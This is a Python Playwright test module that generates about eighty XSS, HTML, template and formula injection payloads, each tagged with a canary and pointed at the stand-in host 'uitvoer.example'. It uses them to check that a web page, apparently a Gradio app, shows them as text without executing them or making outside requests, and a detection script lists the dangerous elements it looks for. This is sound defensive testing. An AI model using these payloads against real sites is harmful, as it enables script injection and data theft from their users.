"""Hostile texts, each with a canary of its own, and the check that a page which shows them made nothing of them."""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from typing import Final
from urllib.parse import urlsplit

from playwright.sync_api import Dialog, Page, Request

__all__ = ["OUTSIDE", "Payload", "Watch", "assert_harmless", "elements", "hostile_texts", "together"]

OUTSIDE: Final = "uitvoer.example"  # the host that every payload tries to reach; it does not exist
_COUNT: Final = 500
_LONG: Final = 1_400  # characters; with the rest of its payload within the 2,000 of a question

# {c} is the canary, {u} an address outside that names it, {j} a script that opens a dialog.
_BODIES: Final = (
    "<script>{j}</script>",
    "<script src={u}></script>",
    "<scr<script>ipt>{j}</scr</script>ipt>",
    "<SCRIPT\n>{j}</SCRIPT\t>",
    "<script/x>{j}//</script>",
    "<img src=x onerror={j}>",
    "<img src={u}>",
    '<img src="{u}" srcset="{u} 2x" alt="">',
    "<img src='x' onerror='{j}'/>",
    "<image href={u} onerror={j}>",
    "<picture><source srcset={u}><img src={u}></picture>",
    "<body onload={j}>",
    "<div onmouseover={j} style=position:fixed;inset:0>{c}</div>",
    "<a href=javascript:{j} autofocus onfocus={j} tabindex=1>{c}</a>",
    "<a href='{u}' ping='{u}' target=_blank>{c}</a>",
    "<input autofocus onfocus={j}>",
    "<details open ontoggle={j}><summary>{c}</summary></details>",
    "<video src={u} onerror={j} autoplay></video>",
    "<audio src={u} onloadstart={j} autoplay></audio>",
    "<marquee onstart={j}>{c}</marquee>",
    "<iframe src={u}></iframe>",
    "<iframe srcdoc='<script>{j}</script>'></iframe>",
    "<frameset><frame src={u}></frameset>",
    "<object data={u}></object>",
    "<embed src={u}>",
    "<svg onload={j}></svg>",
    "<svg><script>{j}</script></svg>",
    "<svg><animate onbegin={j} attributeName=x dur=1s></svg>",
    "<svg><use href={u}#x></use><image href={u}></image></svg>",
    "<math><mtext><img src=x onerror={j}></mtext></math>",
    "<style>@import '{u}';</style>",
    "<style>*{{background:url({u})}}</style>",
    "<p style=background-image:url({u})>{c}</p>",
    "<link rel=stylesheet href={u}>",
    "<link rel=prefetch href={u}>",
    "<form action={u}><input name=bsn><button>{c}</button></form>",
    "<button formaction={u} form=iw>{c}</button>",
    "<meta http-equiv=refresh content='0;url={u}'>",
    "<base href={u}>",
    "<template><img src={u}></template><slot>{c}</slot>",
    "<dialog open>{c}</dialog>",
    "<iw-doe class=iw-doe data-actie=vraag data-woorden={c}>",
    "<button class='iw-doe' data-actie='vraag' data-woorden='{c}'>{c}</button>",
    "[{c}](javascript:{j})",
    "[{c}]({u})",
    "![{c}]({u})",
    "![{c}][r]\n\n[r]: {u}",
    "<{u}>",
    "{u}",
    "`{c}` **vet** _schuin_ # kop\n\n| a | b |\n|---|---|\n| <img src={u}> | {c} |",
    "```html\n<script>{j}</script>\n```",
    "$$\\href{{javascript:{j}}}{{{c}}}$$",
    "$\\includegraphics{{{u}}}$ \\(\\url{{{u}}}\\) \\[\\text{{<img src={u}>}}\\]",
    "${{{j}}} ${{alert(1)}} #{{{j}}}",
    "{{{{ {c} }}}} {{{{ 7*7 }}}} {{% raw %}}{{{{ config }}}}{{% endraw %}}",
    "{{{{constructor.constructor('{j}')()}}}}",
    "<%= {c} %> <?php echo 1 ?> [[${{{c}}}]] @({c})",
    "&lt;script&gt;{j}&lt;/script&gt;",
    "&#60;img src=x onerror={j}&#62;",
    "&#x3c;img src={u}&#x3e; &amp;lt;img src={u}&amp;gt;",
    "\\u003cimg src={u}\\u003e \\x3cscript\\x3e{j}\\x3c/script\\x3e",
    "%3Cimg%20src%3D{u}%3E",
    "＜img src={u}＞ ‹script›{j}‹/script›",
    "<ſcript>{j}</ſcript> <ımg src={u}>",
    "\u202e<img src={u}>\u202c {c} \u2066\u2069\u200b\ufeff",
    "<img\u2028src={u}\u2029onerror={j}>",
    "<img\u00a0src={u}\u00a0onerror={j}>",
    "\ufffe\U000e0041<img src={u}>",
    "é\u0301\u0301\u0301\u0301 <img src={u}> 👩‍👩‍👧‍👦",
    "<!--><img src={u}>--> <!-- --!><img src=x onerror={j}>",
    "<![CDATA[<img src={u}>]]>",
    "<noscript><p title='</noscript><img src=x onerror={j}>'>",
    "<textarea></textarea><img src={u}></textarea>",
    "<title></title><img src={u}></title>",
    "<xmp><p title='</xmp><img src=x onerror={j}>'></xmp>",
    "<table><td background={u}>{c}</td></table>",
    "<isindex type=image src={u} onerror={j}>",
    "=HYPERLINK('{u}';'{c}') +1+1 -1 @SUM(1)",
    "';{j};// \";{j};// `;{j};//",
)
# What stands around it: as it is, out of an attribute, an element, a script, a comment; and a text that is very long.
_AROUND: Final = (
    "{}",
    "'>{}<'",
    '">{}<"',
    "</p></div></blockquote></li></td>{}",
    "</script></style></textarea></title>{}",
    "--> {} <!--",
    "Mogen we dit contract verlengen? {} Het loopt tot 31 december 2026.",
    "x" * _LONG + "{}",
)


@dataclass(frozen=True, slots=True)
class Payload:
    """A hostile text; its canary is in it and in no other."""

    text: str
    canary: str


def hostile_texts(count: int = _COUNT) -> Iterator[Payload]:
    """So many different texts, at most 632; every body comes before any of them comes again in other surroundings."""
    most = len(_BODIES) * len(_AROUND)
    if count > most:
        raise ValueError(f"there are {most}")
    for number in range(count):
        canary = f"kanarie{number:04}q"
        fields = {"c": canary, "u": f"https://{OUTSIDE}/{canary}", "j": f"alert('{canary}')"}
        around = _AROUND[(number + number // len(_BODIES)) % len(_AROUND)]
        yield Payload(around.format(_BODIES[number % len(_BODIES)].format(**fields)), canary)


def together(payloads: Iterable[Payload], *, most: int) -> list[tuple[str, list[Payload]]]:
    """Texts of at most so many characters with as many payloads each as fit, and which those are.

    One that opens a comment stands last in its text, where it can hide no other.
    """
    groups: list[list[Payload]] = []
    for payload in sorted(payloads, key=lambda one: -len(one.text)):
        for group in groups:
            if sum(len(one.text) + 1 for one in group) + len(payload.text) <= most:
                group.append(payload)
                break
        else:
            groups.append([payload])
    for group in groups:
        group.sort(key=lambda one: one.text.rfind("<!--") > one.text.rfind("-->"))
    return [("\n".join(one.text for one in group), group) for group in groups]


# Elements that our own pages never have, and attributes that would do something.
_STRANGE = """(canaries) => {
  const found = [];
  const bad = "img[src*='OUTSIDE'], image, iframe, frame, frameset, object, embed, marquee, math, video,"
    + "base:not([href='./'])," // gradio's page has one of its own
    + "audio, xmp, isindex, iw-doe, meta[http-equiv=refresh i], [href*='OUTSIDE'], [src*='OUTSIDE'],"
    + "[action*='OUTSIDE'], [srcset*='OUTSIDE'], [background], [ping], [formaction], [srcdoc],"
    + "[style*='OUTSIDE'], [href^='javascript:' i]";
  const roots = [document];
  for (const root of roots) {
    for (const element of root.querySelectorAll("*")) {
      if (element.shadowRoot) roots.push(element.shadowRoot);
      if (element.matches(bad)) found.push(element.outerHTML.slice(0, 200));
      for (const {name, value} of element.attributes) {
        if (name.startsWith("on") && canaries.some((one) => value.includes(one))) found.push(`${name}=${value}`);
        if (canaries.some((one) => name.includes(one))) found.push(name);
      }
    }
  }
  return found;
}""".replace("OUTSIDE", OUTSIDE)


@dataclass  # without slots: playwright keeps something of its own on whoever listens
class Watch:
    """Notes, from its making on, what a page does that text alone cannot: dialogs, requests out, other pages."""

    page: Page
    troubles: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.page.on("dialog", self._dialog)
        self.page.on("request", self._request)
        self.page.on("popup", lambda popup: self.troubles.append(f"opened {popup.url}"))
        self.page.on("framenavigated", lambda frame: self._leaves(frame.url, "went to"))
        self.page.on("pageerror", lambda error: self.troubles.append(f"broke: {error}"))

    def _dialog(self, dialog: Dialog) -> None:
        self.troubles.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _request(self, request: Request) -> None:
        self._leaves(request.url, "asked for")

    def _leaves(self, url: str, how: str) -> None:
        parts = urlsplit(url)
        if parts.scheme in {"http", "https"} and parts.hostname not in {"127.0.0.1", "localhost"}:
            self.troubles.append(f"{how} {url}")


def elements(page: Page) -> dict[str, int]:
    """How many there are of each element, without line breaks; the same for harmless texts as for hostile ones."""
    counted: dict[str, int] = page.evaluate(
        """() => [...document.querySelectorAll("body *:not(br)")].reduce(
            (counts, {localName}) => ({...counts, [localName]: (counts[localName] || 0) + 1}), {})"""
    )
    return counted


def assert_harmless(watch: Watch, payloads: list[Payload], *, shown: bool = True) -> None:
    """Fails when the page made an element or attribute of a payload, or did anything; `shown`: all stand in its text.

    A payload that must be shown has to be there with its markup as text, not stripped.
    """
    found = watch.page.evaluate(_STRANGE, [payload.canary for payload in payloads])
    assert found == [], found[:5]
    if shown:
        text = watch.page.evaluate("() => document.body.textContent")
        assert [payload.text for payload in payloads if payload.canary not in text] == []
    assert watch.troubles == []
